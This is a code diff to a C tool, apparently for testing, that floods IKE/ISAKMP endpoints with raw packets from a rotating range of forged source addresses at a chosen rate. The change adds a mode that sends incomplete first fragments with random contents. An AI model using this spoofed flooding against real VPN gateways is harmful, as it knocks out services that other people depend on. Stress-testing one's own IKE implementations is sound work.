@@ -4,8 +4,8 @@
  *
  *   ike_flood KIND TO FROM ADDRESSES COUNT RATE
  *
- * KIND is main or aggressive (RFC 2409), or garbage: every other message is noise, the
- * others have a header of ISAKMP. Sources are ADDRESSES many from FROM on, in turn.
+ * KIND is main or aggressive (RFC 2409), fragment: the first part of one of main mode, or
+ * garbage: every other message is noise, the others have a header of ISAKMP. Sources are ADDRESSES many from FROM on, in turn.
  * RATE is in messages a second. Prints how many went out.
  */
 #include <arpa/inet.h>
@@ -26,8 +26,9 @@
 #define EXCHANGE	18	/* where it has the exchange type */
 #define LENGTH		24	/* and the length */
 #define PUBLIC_VALUE	256	/* of group 14 */
+#define FRAGMENT_TYPE	132	/* of a payload, as peers have it that know no RFC for it */
 
-enum kind { MAIN, AGGRESSIVE, GARBAGE };
+enum kind { MAIN, AGGRESSIVE, FRAGMENT, GARBAGE };
 
 struct packet {
 	struct iphdr	ip;
@@ -76,6 +77,11 @@ static size_t write_ike(uint8_t *ike, enum kind kind, bool noise, uint32_t from)
 	ike[EXCHANGE] = kind == AGGRESSIVE ? 4 : 2;
 	if (kind == GARBAGE) {
 		len += 64;
+	} else if (kind == FRAGMENT) {
+		ike[16] = FRAGMENT_TYPE;
+		len = add_random(ike, len, 0, 512);
+		/* number 1, and there are more */
+		memcpy(ike + HEADER + 4, "\0\1\1", 4);
 	} else {
 		memcpy(ike + len, sa, sizeof(sa));
 		len += sizeof(sa);
@@ -126,7 +132,8 @@ int main(int argc, char **argv)
 		return 2;
 	}
 	kind = !strcmp(argv[1], "main") ? MAIN :
-	       !strcmp(argv[1], "aggressive") ? AGGRESSIVE : GARBAGE;
+	       !strcmp(argv[1], "aggressive") ? AGGRESSIVE :
+	       !strcmp(argv[1], "fragment") ? FRAGMENT : GARBAGE;
 	addresses = strtoul(argv[4], NULL, 10);
 	count = strtoul(argv[5], NULL, 10);
 	rate = strtoul(argv[6], NULL, 10);
